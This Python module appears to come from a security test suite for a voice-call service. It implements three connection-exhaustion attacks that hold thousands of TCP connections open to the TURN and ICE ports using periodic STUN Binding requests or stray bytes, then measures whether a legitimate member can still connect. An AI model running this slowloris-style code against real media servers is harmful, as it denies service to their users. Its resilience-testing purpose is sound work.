"""The TCP doors of TURN and of ICE, held shut by connections that say something now and then and prove nothing."""

import resource
import secrets
import socket
import struct
import time
from collections.abc import Callable
from urllib.parse import urlsplit

from tools import stun
from tools.target import Attack, Outcome, Target
from tools.wire import Session, connect, held_by_server, offer

SECONDS = 45
ADDRESSES, EACH = 17, 256
PAUSE = 8
# How often somebody with good credentials knocks.
KNOCK = 3


class Member:
    """A user in a call of sound alone, whose credentials for TURN and ICE are good."""

    def __init__(self, target: Target) -> None:
        self.session = Session(target, target.user())
        server = self.session.request("media.servers")["iceServers"][0]
        self.turn_port = urlsplit(server["urls"][0].replace("turn:", "turn://")).port
        self.turn_user, self.turn_password = server["username"], server["credential"]
        self.ufrag, password = secrets.token_hex(4), secrets.token_hex(12)
        reply = self.session.request(
            "call.join", groupId=group(), muted=True, media=offer(self.ufrag, password)
        )
        answer = dict(
            line[2:].split(":", 1) for line in reply["media"]["sdp"].splitlines() if line.startswith("a=ice-")
            and ":" in line
        )  # fmt: skip
        self.server_ufrag, self.server_password = answer["ice-ufrag"], answer["ice-pwd"]

    def allocates(self) -> bool:
        """Whether TURN over TCP works."""
        with connect(self.turn_port) as stream:
            return stun.allocate(stream, self.turn_user, self.turn_password)

    def checks(self, target: Target) -> bool:
        """Whether a connectivity check over TCP is answered (framed as in RFC 4571)."""
        packet = stun.check(self.server_ufrag, self.ufrag, self.server_password)
        with connect(target.media_port) as stream:
            stream.sendall(struct.pack("!H", len(packet)) + packet)
            length = struct.unpack("!H", stun.read_exactly(stream, 2))[0]
            return struct.unpack_from("!H", stun.read_exactly(stream, length))[0] == 0x0101

    def keep_alive(self) -> None:
        self.session.request("media.servers")


def group() -> str:
    text = secrets.token_hex(16)
    return f"{text[:8]}-{text[8:12]}-{text[12:16]}-{text[16:20]}-{text[20:]}"


def hold(port: int, idle: bytes, knock: Callable[[], bool], member: Member, outcome: Outcome) -> None:
    """Occupies a port, says `idle` on each connection now and then, and lets somebody knock meanwhile."""
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    assert knock(), "the door is open before"
    streams: list[socket.socket] = []
    began = time.monotonic()
    for number in range(ADDRESSES * EACH):
        try:
            stream = connect(port, source=f"127.0.1.{1 + number % ADDRESSES}")
        except OSError:
            continue
        stream.setblocking(False)
        streams.append(stream)
    ports = {one.getsockname()[1] for one in streams}
    knocks = successes = 0
    next_idle = next_knock = time.monotonic()
    while time.monotonic() < began + SECONDS:
        if time.monotonic() >= next_idle:
            next_idle = time.monotonic() + PAUSE
            for one in streams:
                try:
                    outcome.sent_bytes += one.send(idle)
                except OSError:
                    pass
        if time.monotonic() >= next_knock:
            next_knock = time.monotonic() + KNOCK
            knocks += 1
            member.keep_alive()
            try:
                successes += knock()
            except OSError:
                pass
        time.sleep(0.05)
    held = held_by_server(port, ports)
    outcome.findings.append(f"a user with good credentials got in {successes} of {knocks} times")
    outcome.findings.append(f"held at the end: {held} of {ADDRESSES * EACH}")


def turn(target: Target) -> Outcome:
    outcome, member = Outcome(), Member(target)
    hold(member.turn_port, stun.message(stun.BINDING, []), member.allocates, member, outcome)
    return outcome


def ice(target: Target) -> Outcome:
    outcome, member = Outcome(), Member(target)
    request = stun.message(stun.BINDING, [], fingerprint=True)
    framed = struct.pack("!H", len(request)) + request
    hold(target.media_port, framed, lambda: member.checks(target), member, outcome)
    return outcome


def strays(target: Target) -> Outcome:
    """As `turn`, but with the first bytes of a message that never comes to its end."""
    outcome, member = Outcome(), Member(target)
    hold(member.turn_port, b"\x00", member.allocates, member, outcome)
    return outcome


WHO = f"anybody, {ADDRESSES} addresses"
ATTACKS = {
    "turn-door": Attack("TURN over TCP occupied by Binding requests", WHO, SECONDS, turn),
    "turn-door-strays": Attack("TURN over TCP occupied by stray bytes", WHO, SECONDS, strays),
    "ice-door": Attack("ICE over TCP occupied by requests without credentials", WHO, SECONDS, ice),
}
